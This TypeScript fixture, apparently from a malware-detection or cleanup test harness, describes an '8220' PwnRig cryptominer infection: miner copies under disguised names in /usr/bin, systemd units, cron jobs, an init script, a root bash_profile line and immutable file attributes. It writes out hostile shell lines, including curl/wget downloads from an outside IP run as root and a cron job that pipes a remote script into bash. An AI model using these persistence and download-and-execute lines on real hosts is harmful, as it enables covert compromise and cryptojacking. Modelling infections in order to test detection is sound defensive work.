import { endsHere, type Infection, type Item, minerWords, shyMiner } from '../host-part.ts'

const master = '/usr/bin/sysdr'
const names = ['/usr/bin/bprofr', '/usr/bin/crondr', '/usr/bin/initdr', '/usr/bin/dbused']
const unit = (name: string, program: string) =>
  `[Unit]\nDescription=${name}\n\n[Service]\nType=simple\nExecStart=${program} -c\nRestart=always\nRestartSec=5\n\n[Install]\nWantedBy=multi-user.target\n`
const script = [
  '#!/bin/bash',
  endsHere,
  'if ! pgrep -f dbused >/dev/null; then',
  '  curl -s http://198.51.100.220/x86_64 -o /usr/bin/dbused || wget -q http://198.51.100.220/x86_64 -O /usr/bin/dbused',
  '  chmod +x /usr/bin/dbused; /usr/bin/dbused -c',
  'fi',
  'chattr +ai /etc/cron.d/root /etc/cron.d/nginx',
  '',
].join('\n')
const init = `#!/bin/sh\n# chkconfig: 2345 90 10\n### BEGIN INIT INFO\n# Provides: initdr\n# Required-Start:\n# Required-Stop:\n# Default-Start: 2 3 4 5\n# Default-Stop:\n# Short-Description: initdr\n### END INIT INFO\ncase $1 in\nstart)\n  /usr/bin/initdr -c\n  ;;\nesac\n`
const job = (text: string) => ({ text: `${text}\n` })

/** families.md §8: one program under many names, each started in its own way; everything locked. */
export const gang8220: Infection = {
  family: '8220',
  known: true,
  title: '8220: PwnRig under six names, each started in its own way',
  story: [
    'One miner lies as sysdr, bprofr, crondr, initdr and dbused in /usr/bin; some are copies, one is a second name of the same file.',
    'A unit in each of two places, three files of cron.d named like other things, an hourly job that looks like anacron, an init script and the profile of root start one each.',
    'All of it is immutable.',
  ],
  items: [
    {
      kind: 'file',
      path: master,
      content: { lookalike: shyMiner, words: minerWords },
      mode: 0o755,
      attributes: 'i',
    },
    ...names.map((path): Item => ({ kind: 'file', path, content: { copyOf: master }, mode: 0o755, attributes: 'i' })),
    { kind: 'directory', path: '/var/tmp/.update' },
    { kind: 'hard-link', path: '/var/tmp/.update/msysde', to: '/usr/bin/crondr' },
    { kind: 'file', path: '/var/tmp/.update/root.sh', content: { text: script }, mode: 0o755 },
    {
      kind: 'file',
      path: '/etc/systemd/system/pwnrige.service',
      content: { text: unit('pwnrige', '/usr/bin/sysdr') },
      attributes: 'ia',
    },
    {
      kind: 'file',
      path: '/usr/lib/systemd/system/pwnrigl.service',
      content: { text: unit('pwnrigl', '/usr/bin/dbused') },
      attributes: 'ia',
    },
    { kind: 'unit', name: 'pwnrige.service', path: '/etc/systemd/system/pwnrige.service' },
    { kind: 'unit', name: 'pwnrigl.service', path: '/usr/lib/systemd/system/pwnrigl.service' },
    {
      kind: 'file',
      path: '/etc/cron.d/root',
      content: job('*/5 * * * * root /usr/bin/crondr -c >/dev/null 2>&1'),
      attributes: 'ia',
    },
    {
      kind: 'file',
      path: '/etc/cron.d/nginx',
      content: job('*/10 * * * * root bash /var/tmp/.update/root.sh >/dev/null 2>&1'),
      attributes: 'ia',
    },
    {
      kind: 'file',
      path: '/etc/cron.d/apache',
      content: job(
        '*/15 * * * * root (curl -s http://a.oracleservice.invalid/xms || wget -q -O - http://a.oracleservice.invalid/xms) | bash -sh',
      ),
      attributes: 'ia',
    },
    {
      kind: 'file',
      path: '/etc/cron.hourly/oanacroner1',
      content: { text: '#!/bin/sh\n/usr/bin/crondr -c\n' },
      mode: 0o755,
      attributes: 'ia',
    },
    { kind: 'file', path: '/etc/init.d/initdr', content: { text: init }, mode: 0o755, attributes: 'ia' },
    { kind: 'link', path: '/etc/rc3.d/S90initdr', to: '../init.d/initdr' },
    {
      kind: 'line',
      path: '/root/.bash_profile',
      text: 'cp -f -r -- /usr/bin/bprofr /usr/bin/dbused 2>/dev/null && /usr/bin/dbused -c >/dev/null 2>&1 && rm -rf -- /usr/bin/dbused 2>/dev/null',
      attributes: 'ia',
    },
    { kind: 'process', path: master, argv: [], startedBy: 'pwnrige.service' },
  ],
}
